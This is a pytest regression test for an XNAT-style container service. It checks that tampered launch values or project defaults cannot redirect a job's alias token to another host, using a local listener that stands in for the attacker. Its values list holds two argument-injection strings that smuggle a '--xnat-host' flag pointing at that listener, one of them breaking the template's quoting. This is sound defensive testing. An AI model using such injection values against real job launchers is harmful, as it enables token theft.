"""Issue 8 item 1, end to end: a launch value that would redirect project-summary to another host
never makes the job send its alias token anywhere, whether an admin types it at launch or a
project owner plants it as the project's default for the wrapper (XNAT's project-level wrapper
configuration). A listener on 127.0.0.1 stands for the attacker and must receive nothing."""

from __future__ import annotations

import contextlib
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from tests.docker.conftest import enable_wrapper, wait_for_container

pytestmark = pytest.mark.docker


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and byte it gets."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = int(self.sock.getsockname()[1])
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                data = b"<connected>"
                with contextlib.suppress(OSError):
                    data += conn.recv(65536)
                self.received.append(data)

    def close(self) -> None:
        self._stop.set()
        self._thread.join(5)
        self.sock.close()


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def test_no_launch_value_sends_the_token_elsewhere(
    built_images: dict[str, str], tmp_path: Path, attacker: Listener
) -> None:
    from xnatsim.testing import running_server

    from xnatsim import seed as seeder

    tag = built_images["project-summary"]
    evil = f"http://127.0.0.1:{attacker.port}"
    values = [
        f"8 --xnat-host {evil}",  # split on spaces by XNAT: extra flags, unless quoted
        f"8' --xnat-host {evil} '",  # a quote in the value breaks the template's quoting
    ]
    with running_server(tmp_path / "data") as server:
        seeder.apply(server.store, "demo")
        url = server.url
        admin = server.session()
        assert admin.post(f"{url}/xapi/docker/images/save", params={"image": tag},
                          timeout=60).status_code == 200
        command = admin.get(f"{url}/xapi/commands", params={"image": tag}, timeout=30).json()[0]
        wid = command["xnat"][0]["id"]
        enable_wrapper(admin, url, "DEMO", wid)
        server.store.add_user("owner", "owner-pw-1234")
        server.store.set_role("DEMO", "owner", "owner")
        owner = requests.Session()
        owner.auth = ("owner", "owner-pw-1234")
        launch = f"{url}/xapi/projects/DEMO/wrappers/{wid}/root/project/launch"

        outcomes: list[tuple[str, str, str]] = []
        for value in values:
            # 1. typed at launch by whoever launches
            r = admin.post(launch, json={"project": "/archive/projects/DEMO", "workers": value},
                           timeout=60)
            outcomes.append(("launch value", value, _outcome(admin, url, r)))
            # 2. planted by a project owner as the project's default; an admin launches as usual
            r = owner.post(f"{url}/xapi/projects/DEMO/wrappers/{wid}/config",
                           json={"inputs": {"workers": {"default-value": value,
                                                        "user-settable": True}}}, timeout=30)
            assert r.status_code in (200, 201), r.text
            r = admin.post(launch, json={"project": "/archive/projects/DEMO"}, timeout=60)
            outcomes.append(("project default", value, _outcome(admin, url, r)))
        time.sleep(1)  # anything in flight reaches the listener

    assert attacker.received == [], f"the attacker's listener got {attacker.received!r}"
    ran = [o for o in outcomes if o[2].startswith("Failed")]
    assert len(ran) == len(outcomes), f"every launch ran and failed cleanly: {outcomes}"
    for where, value, outcome in outcomes:
        assert outcome.startswith(("refused at launch", "Failed")), (where, value, outcome)
        assert "Complete" not in outcome, (where, value, outcome)


def _outcome(http: requests.Session, url: str, response: requests.Response) -> str:
    """How a launch ended: refused by the Container Service, or the container's end and why."""
    body = response.json() if response.headers.get("Content-Type", "").startswith(
        "application/json") else {}
    if response.status_code != 200 or body.get("status") != "success":
        return f"refused at launch: {response.status_code} {response.text[:300]}"
    doc = wait_for_container(http, url, body["container-id"], timeout=180)
    logs = http.get(f"{url}/xapi/containers/{body['container-id']}/logs/stderr", timeout=30).text
    assert "--workers" in logs or "refused" in logs, logs[-2000:]
    return f"{doc['status']} (exit {doc.get('exit-code')}): {logs.strip().splitlines()[-1:]}"
